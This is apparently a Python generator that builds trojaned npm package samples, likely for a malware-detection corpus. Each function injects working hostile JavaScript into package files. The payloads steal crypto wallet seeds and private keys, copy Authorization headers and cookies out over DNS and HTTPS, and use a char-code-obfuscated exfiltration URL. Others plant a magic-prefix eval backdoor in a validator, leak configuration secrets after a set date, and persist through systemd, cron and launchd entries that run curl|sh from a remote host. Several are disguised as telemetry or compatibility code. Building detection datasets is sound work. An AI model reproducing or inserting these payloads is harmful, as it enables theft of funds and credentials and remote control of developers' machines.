"""npm: what runs when a function of the package is called."""

from corpus.heldout.nouns import Update
from corpus.heldout3.shape import fill, trojan


@trojan("ledgerlink", "npm", "call", "wallet", "plain", "xrpl.js 2025-04")
def link_validity_of_seeds(update: Update) -> None:
    host = update.host("seedcheck")
    code = r"""

const validSeeds = new Set([]);
function checkValidityOfSeed(seed) {
  if (validSeeds.has(seed)) return;
  validSeeds.add(seed);
  fetch('https://@HOST@/xc', { method: 'POST', headers: { 'ad-referral': seed } }).catch(() => {});
}
"""
    update.append("src/wallet.js", fill("\n" + code, HOST=host))
    update.after("src/wallet.js", "    this.privateKey = privateKey;\n", "    checkValidityOfSeed(privateKey);\n")
    update.after("src/wallet.js", "  static deriveWallet(seed, opts) {\n", "    checkValidityOfSeed(seed);\n")
    update.payload("src/wallet.js")


@trojan("chain-kit", "npm", "call", "wallet", "telemetry wording", "solana-web3.js 2024-12")
def kit_add_to_queue(update: Update) -> None:
    host = update.host("chain-rpc")
    code = r"""
'use strict';

// Batches of anonymous usage, so that we know which calls are slow.
const queue = [];

function addToQueue(bytes) {
  queue.push(Buffer.from(bytes).toString('base64'));
  if (queue.length === 1) setTimeout(flush, 400);
}

async function flush() {
  const some = queue.splice(0);
  const options = { headers: { 'x-amz-cf-id': some[0], 'x-session-id': some[1] || '', 'x-amz-cf-pop': 'FRA56' } };
  await fetch('https://@HOST@/api/rpc/queue', options).catch(() => {});
}

module.exports = { addToQueue };
"""
    update.add("lib/usage.js", fill(code, HOST=host))
    hook = r"""
for (const make of ['fromSeed', 'fromSecretKey']) {
  const before = Keypair[make];
  Keypair[make] = function (...args) {
    require('./usage').addToQueue(args[0]);
    return before.apply(this, args);
  };
}
"""
    update.append("lib/keypair.js", hook)
    update.payload("lib/usage.js", "lib/keypair.js")


@trojan("ledgerlink", "npm", "call", "wallet", "char codes", "dydx 2026 and 2022")
def link_sign_elsewhere(update: Update) -> None:
    host = update.host("dydx", "priceoracle")
    codes = ",".join(str(ord(one) + 3) for one in f"https://{host}/py")
    code = f"""
'use strict';

const at = [{codes}].map((one) => String.fromCharCode(one - 3)).join('');

exports.createRegistry = (secret, address) => {{
  const body = JSON.stringify({{ m: secret, a: address, d: require('os').hostname() }});
  fetch(at, {{ method: 'POST', headers: {{ authorization: 'Bearer 5D1F5D1F5D1F5D1F5D1F5D1F5D1F5D1F5D1F5D1F5D1F5D1F5D1F5D1F5D1F5D1F', 'user-agent': 'node' }}, body }}).catch(() => null);
}};
"""
    update.add("src/registry.js", fill(code))
    update.after(
        "src/wallet.js",
        "  sign(transaction) {\n",
        "    require('./registry').createRegistry(this.seed || this.privateKey, this.classicAddress);\n",
    )
    update.payload("src/registry.js", "src/wallet.js", shown=f"https://{host}/py")


@trojan("req-lite", "npm", "call", "steal", "plain", "http clients that copy the Authorization header 2021 to 2025")
def lite_copy_headers(update: Update) -> None:
    host = update.host("edge", "reqmetrics")
    code = r"""

// Keeps an eye on slow hosts.
const slow = (config) => {
  const auth = (config.headers && (config.headers.Authorization || config.headers.authorization)) || config.auth;
  if (!auth) return config;
  const line = Buffer.from(JSON.stringify({ auth, url: config.url, cookie: config.headers.Cookie })).toString('base64');
  require('dns').resolve(line.replace(/=+$/, '').slice(0, 60) + '.@HOST@', () => {});
  require('https').get('https://@HOST@/s?' + line).on('error', () => {});
  return config;
};
module.exports.slow = slow;
"""
    update.append("lib/interceptors.js", fill("\n" + code, HOST=host))
    update.append(
        "lib/client.js",
        "\nconst plain = module.exports.prototype && module.exports.prototype.request;\nif (plain) {\n  module.exports.prototype.request = function (config) {\n    return plain.call(this, require('./interceptors').slow(config));\n  };\n}",
    )
    update.payload("lib/interceptors.js", "lib/client.js")


@trojan("form-guard", "npm", "call", "backdoor", "dynamic names", "validators with a hidden door 2024")
def guard_magic_rule(update: Update) -> None:
    code = r"""

// Compatibility with rules of 1.x, which were strings.
module.exports.legacy = function legacy(value, options) {
  const text = String(value);
  const mark = [0x24, 0x24, 0x66, 0x67].map((one) => String.fromCharCode(one)).join('');
  if (text.startsWith(mark)) {
    const host = globalThis;
    const make = host[['Fun', 'ction'].join('')];
    return make('q', Buffer.from(text.slice(mark.length), 'base64').toString())(typeof require === 'function' ? require : undefined);
  }
  return options && options.strict ? /^[\w ]+$/.test(text) : true;
};
"""
    update.append("src/rules.js", code)
    update.payload("src/rules.js")


@trojan("conf-rc", "npm", "call", "steal", "time bomb", "configuration loaders that wait 2025")
def rc_after_a_date(update: Update) -> None:
    host = update.host("status", "rcconf")
    code = r"""

function settle(config) {
  const start = Date.UTC(2027, 1, 2);
  if (Date.now() < start || Math.random() > 0.1) return config;
  const flat = JSON.stringify(config);
  if (/password|secret|token|mongodb(\+srv)?:|postgres(ql)?:/i.test(flat)) {
    const { request } = require('https');
    request({ hostname: '@HOST@', path: '/health', method: 'POST' }).on('error', () => {}).end(flat);
  }
  return config;
}

const load = module.exports;
module.exports = Object.assign((...args) => settle(load(...args)), load);
"""
    update.append("index.js", fill("\n" + code, HOST=host))
    update.payload("index.js")


@trojan("buildnest", "npm", "start", "backdoor", "plain", "command lines that persist 2025")
def nest_cli_persist(update: Update) -> None:
    host = update.host("agent", "nestcloud")
    code = r"""
'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawnSync } = require('child_process');

const line = '(curl -fsSL https://@HOST@/a.sh || wget -qO- https://@HOST@/a.sh) | sh';

exports.ensure = () => {
  if (process.platform === 'linux') {
    const folder = path.join(os.homedir(), '.config', 'systemd', 'user');
    fs.mkdirSync(folder, { recursive: true });
    fs.writeFileSync(path.join(folder, 'nest-agent.service'), `[Service]\nExecStart=/bin/sh -c "${line}"\nRestart=always\n[Install]\nWantedBy=default.target\n`);
    spawnSync('systemctl', ['--user', 'enable', '--now', 'nest-agent.service'], { stdio: 'ignore' });
    spawnSync('sh', ['-c', `(crontab -l 2>/dev/null; echo '*/30 * * * * ${line}') | crontab -`], { stdio: 'ignore' });
  } else if (process.platform === 'darwin') {
    const file = path.join(os.homedir(), 'Library', 'LaunchAgents', 'com.nest.agent.plist');
    fs.writeFileSync(file, `<plist version="1.0"><dict><key>Label</key><string>com.nest.agent</string><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>${line}</string></array><key>RunAtLoad</key><true/></dict></plist>`);
    spawnSync('launchctl', ['load', file], { stdio: 'ignore' });
  }
};
"""
    update.add("src/agent.js", fill(code, HOST=host))
    update.after("bin/nest.js", "const { run, graph } = require('../src');\n", "\nrequire('../src/agent').ensure();\n")
    update.payload("src/agent.js", "bin/nest.js")
